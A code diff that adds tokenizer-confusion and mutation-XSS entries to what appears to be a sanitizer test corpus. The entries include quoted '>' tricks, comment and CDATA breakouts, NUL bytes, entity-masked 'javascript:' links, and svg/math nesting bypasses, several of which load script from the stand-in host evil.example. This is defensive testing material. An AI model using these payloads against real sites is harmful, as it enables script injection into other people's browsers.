@@ -11,12 +11,76 @@
  * DOM-clobbering payloads try to plant.
  */
 export interface XssPayload {
-  source: 'OWASP' | 'PATT' | 'BLNS' | 'DOMPurify';
+  source: 'OWASP' | 'PATT' | 'BLNS' | 'DOMPurify' | 'HTML';
   payload: string;
 }
 
 export const EVIL_HOST = 'evil.example';
 export const CLOBBER_NAME = 'clobbered';
+
+/**
+ * Markup whose tag ends elsewhere than a naive reading sees (a `>` inside a quoted value, a
+ * comment or CDATA section, a NUL, a tag without spaces) or whose value hides a scheme behind an
+ * entity. A tag ends at a `>` outside quoted attribute values, so each of these carries a handler
+ * or an address that a filter reading up to the first `>` lets through.
+ */
+export const QUOTED_GT_PAYLOADS: string[] = [
+  '<img src=x alt=">" onerror=alert(1)>',
+  "<img src=x alt='>' onerror=alert(1)>",
+  '<img src=x alt="/>" onerror=alert(1)>',
+  '<p title=">" onclick=alert(1)>quoted gt</p><img src=x title=">" onerror=alert(1)>',
+  '<a href="https://a.example" title=">" onmouseover="alert(1)">quoted gt link</a>',
+  '<img src=x alt="a>b" title=\'c>d\' onerror=alert(1)>',
+];
+
+const TOKENIZER_TRICKS: XssPayload[] = [
+  ...QUOTED_GT_PAYLOADS.map((payload) => ({ source: 'HTML' as const, payload })),
+  { source: 'OWASP', payload: '<SCRIPT a=">" SRC="https://evil.example/xss.js"></SCRIPT>' },
+  { source: 'OWASP', payload: '<SCRIPT =">" SRC="https://evil.example/xss.js"></SCRIPT>' },
+  { source: 'OWASP', payload: '<SCRIPT a=">" \'\' SRC="https://evil.example/xss.js"></SCRIPT>' },
+  { source: 'OWASP', payload: '<SCRIPT "a=\'>\'" SRC="https://evil.example/xss.js"></SCRIPT>' },
+  { source: 'OWASP', payload: '<SCRIPT a=`>` SRC="https://evil.example/xss.js"></SCRIPT>' },
+  { source: 'OWASP', payload: '<SCRIPT a=">\'>" SRC="https://evil.example/xss.js"></SCRIPT>' },
+  { source: 'HTML', payload: '<img src=x alt=a>b onerror=alert(1)>' },
+  { source: 'HTML', payload: '<p title=&gt; onclick=alert(1)>entity gt</p>' },
+  { source: 'HTML', payload: '<img src=x alt="&gt;" onerror=alert(1)>' },
+  { source: 'HTML', payload: '<!-- > --><img src=x onerror=alert(1)><!-- -->' },
+  { source: 'HTML', payload: '<!--><img src=x onerror=alert(1)>-->' },
+  { source: 'HTML', payload: '<!-- --!><img src=x onerror=alert(1)>-->' },
+  { source: 'HTML', payload: '<![CDATA[><img src=x onerror=alert(1)>]]>' },
+  { source: 'HTML', payload: '<p><![CDATA[</p><img src=x onerror=alert(1)>]]></p>' },
+  { source: 'HTML', payload: '<img\0 src=x onerror=alert(1)>' },
+  {
+    source: 'HTML',
+    payload: '<scr\0ipt>alert(1)</scr\0ipt><a href="java\0script:alert(1)">nul</a>',
+  },
+  {
+    source: 'HTML',
+    payload: '<IMG SRC=x ONERROR=alert(1)><A HREF="JAVASCRIPT:alert(1)">upper</A>',
+  },
+  { source: 'PATT', payload: '<img/src=x/onerror=alert(1)>' },
+  { source: 'PATT', payload: '<img/src="x"/onerror=alert(1)>' },
+  { source: 'PATT', payload: '<svg/onload=alert(1)//' },
+  { source: 'OWASP', payload: '<a href="java&#x09;script:alert(1)">tab entity</a>' },
+  { source: 'OWASP', payload: '<a href="&#106;avascript:alert(1)">decimal entity</a>' },
+  { source: 'OWASP', payload: '<a href=" &#14;  javascript:alert(1)">control</a>' },
+  { source: 'DOMPurify', payload: '<svg><style><img src=x onerror=alert(1)></style></svg>' },
+  {
+    source: 'DOMPurify',
+    payload: '<svg></p><style><a title="</style><img src=x onerror=alert(1)>">',
+  },
+  { source: 'DOMPurify', payload: '<math><style><img src=x onerror=alert(1)></style></math>' },
+  {
+    source: 'DOMPurify',
+    payload:
+      '<math><mi><mglyph><svg><mtext><textarea><path id="</textarea><img src=x onerror=alert(1)>">',
+  },
+  {
+    source: 'DOMPurify',
+    payload: '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>',
+  },
+  { source: 'DOMPurify', payload: '<noscript><style></noscript><img src=x onerror=alert(1)>' },
+];
 
 export const XSS_PAYLOADS: XssPayload[] = [
   { source: 'BLNS', payload: '<script>alert(1)</script>' },
@@ -119,6 +183,7 @@ export const XSS_PAYLOADS: XssPayload[] = [
     source: 'DOMPurify',
     payload: '<a id="clobbered" href="https://evil.example/">clobber link</a>',
   },
+  ...TOKENIZER_TRICKS,
 ];
 
 /**
